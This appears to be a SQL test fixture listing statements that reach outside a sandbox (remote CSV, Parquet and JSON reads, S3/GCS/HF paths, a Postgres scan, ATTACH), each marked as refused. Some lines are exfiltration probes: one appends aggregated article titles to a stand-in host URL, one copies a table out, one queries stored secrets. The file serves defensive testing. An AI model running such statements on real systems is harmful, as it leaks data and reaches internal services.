-- Reaching out. One statement a line; each is refused.
FROM read_csv('http://127.0.0.1:9/x.csv')
FROM read_csv('https://tern.example/x.csv')
FROM read_parquet('s3://bucket/x.parquet')
FROM 'https://tern.example/x.parquet'
FROM read_json('http://127.0.0.1:9/x.json')
FROM read_text('https://tern.example/?' || (SELECT string_agg(title, ',') FROM articles))
FROM read_parquet('gcs://bucket/x.parquet')
FROM read_parquet('hf://datasets/x/y.parquet')
FROM glob('s3://bucket/*')
FROM postgres_scan('host=127.0.0.1', 'public', 'x')
ATTACH 'http://127.0.0.1:9/x.db' AS far
COPY articles TO 'https://tern.example/x.csv'
FROM which_secret('s3://bucket/x', 's3')
